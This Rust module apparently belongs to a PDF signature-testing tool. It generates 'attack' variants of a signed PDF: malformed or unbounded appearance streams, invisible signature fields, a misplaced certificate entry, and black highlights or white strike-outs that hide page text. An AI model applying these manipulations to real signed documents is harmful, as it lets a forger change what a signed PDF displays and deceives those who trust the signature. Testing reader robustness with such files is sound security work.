//! Appearances that some readers draw beyond their place: without bounds, with what takes their clipping away, or with
//! data behind the end of nothing. Whatever has one, be it a field that shows nothing, one that is filled in or
//! something that a page lists beside its annotations, covers the page with it.

use yinxin::pdf::{Dictionary, Object, Stream, StreamData};

use super::target::Target;
use super::updates::{OTHER, add_to_page, annotation, appearance, put_form, with_field};
use super::{Attack, Error};

/// Fields and annotations with such appearances, and marks that blot out what they stand on.
pub(crate) fn all(signed: &[u8]) -> Result<Vec<Attack>, Error> {
    let target = Target::read(signed)?;
    let mut attacks = Vec::new();
    for (name, form) in forms() {
        let bytes = empty_field(&target, invisible(&target), &form)?;
        attacks.push(Attack::new(format!("boundless-field-{name}"), bytes));
    }
    let bounded = appearance();
    attacks.push(Attack::new(
        "boundless-field-of-no-size",
        empty_field(&target, invisible(&target), &bounded)?,
    ));
    let mut no_widget = invisible(&target);
    ["Type", "Subtype", "Rect"].iter().for_each(|key| {
        no_widget.remove(key);
    });
    let unbounded = form(&[], OTHER);
    attacks.push(Attack::new(
        "boundless-field-that-is-no-widget",
        empty_field(&target, no_widget, &unbounded)?,
    ));
    attacks.push(Attack::new(
        "boundless-certificate-that-is-listed",
        listed_certificate(&target)?,
    ));
    for (name, kind, entries) in marks() {
        let bytes = target.updated(|update| {
            let mark = entries
                .into_iter()
                .fold(annotation(kind, target.page), |mark, (key, value)| {
                    mark.with(key, value)
                });
            let mark = update.add(&Object::Dictionary(mark))?;
            add_to_page(update, &target, mark)
        })?;
        attacks.push(Attack::new(format!("evil-annotation-{name}"), bytes));
    }
    Ok(attacks)
}

/// Forms that some reader draws over the whole page.
pub(crate) fn forms() -> Vec<(&'static str, Object)> {
    let bounds = || ("BBox", numbers(&[0, 0, 480, 680]));
    let filtered = |filter: &str, end: &[u8]| {
        let data = [end, b"\n n\n", OTHER].concat();
        form(&[bounds(), ("Filter", Object::name(filter))], &data)
    };
    vec![
        ("without-bounds", form(&[], OTHER)),
        (
            "with-bounds-that-are-none",
            form(&[("BBox", numbers(&[0, 0, 480]))], OTHER),
        ),
        ("takes-clipping-away", form(&[bounds()], &[b"Q ", OTHER].concat())),
        ("behind-hexadecimal-end", filtered("ASCIIHexDecode", b">")),
        ("behind-base-85-end", filtered("ASCII85Decode", b"~>")),
        (
            "behind-zlib-end",
            filtered("FlateDecode", &[0x78, 0x9c, 3, 0, 0, 0, 0, 1]),
        ),
    ]
}

/// Adds an empty signature field with these entries and that appearance.
pub(crate) fn empty_field(target: &Target, entries: Dictionary, form: &Object) -> Result<Vec<u8>, Error> {
    target.updated(|update| {
        let states = Dictionary::new().with("N", Object::Reference(update.add(form)?));
        let entries = entries.with("AP", Object::Dictionary(states));
        let added = update.add(&Object::Dictionary(entries))?;
        add_to_page(update, target, added)?;
        put_form(update, target, with_field(target, added))
    })
}

/// The entries of a signature field that shows nothing.
pub(crate) fn invisible(target: &Target) -> Dictionary {
    annotation("Widget", target.page)
        .with("FT", Object::name("Sig"))
        .with("T", Object::String(b"Approval".to_vec()))
        .with("Rect", numbers(&[0; 4]))
}

/// Validation data that the page lists among its annotations.
fn listed_certificate(target: &Target) -> Result<Vec<u8>, Error> {
    target.updated(|update| {
        let data = StreamData::Held(vec![0x30, 3, 2, 1, 1]);
        let dictionary = Dictionary::new();
        let certificate = update.add(&Object::Stream(Stream { dictionary, data }))?;
        let list = Object::Array(vec![Object::Reference(certificate)]);
        let store = Object::Dictionary(Dictionary::new().with("Certs", list));
        let catalog = target.catalog.clone().with("DSS", store);
        update.put(target.root, &Object::Dictionary(catalog))?;
        add_to_page(update, target, certificate)
    })
}

/// Entries of a dictionary.
type Entries = Vec<(&'static str, Object)>;

/// Marks on text that leave nothing of it to be read: their names, kinds and entries.
fn marks() -> Vec<(&'static str, &'static str, Entries)> {
    let place = [20, 700, 500, 700, 20, 20, 500, 20];
    let lines: Vec<i64> = (20..700).flat_map(|y| [20, y + 1, 500, y + 1, 20, y, 500, y]).collect();
    let colour = |numbers_of_one: &[i64]| ("C", numbers(numbers_of_one));
    vec![
        (
            "black-highlight",
            "Highlight",
            vec![colour(&[0, 0, 0]), ("QuadPoints", numbers(&place))],
        ),
        (
            "highlight-of-no-colour",
            "Highlight",
            vec![("QuadPoints", numbers(&place))],
        ),
        (
            "white-lines",
            "StrikeOut",
            vec![colour(&[1, 1, 1]), ("QuadPoints", numbers(&lines))],
        ),
    ]
}

fn numbers(numbers: &[i64]) -> Object {
    Object::Array(numbers.iter().copied().map(Object::Integer).collect())
}

/// A form with these entries.
pub(crate) fn form(entries: &[(&str, Object)], data: &[u8]) -> Object {
    let dictionary = Dictionary::new()
        .with("Type", Object::name("XObject"))
        .with("Subtype", Object::name("Form"));
    Object::Stream(Stream {
        dictionary: entries
            .iter()
            .fold(dictionary, |all, (key, value)| all.with(key, value.clone())),
        data: StreamData::Held(data.to_vec()),
    })
}
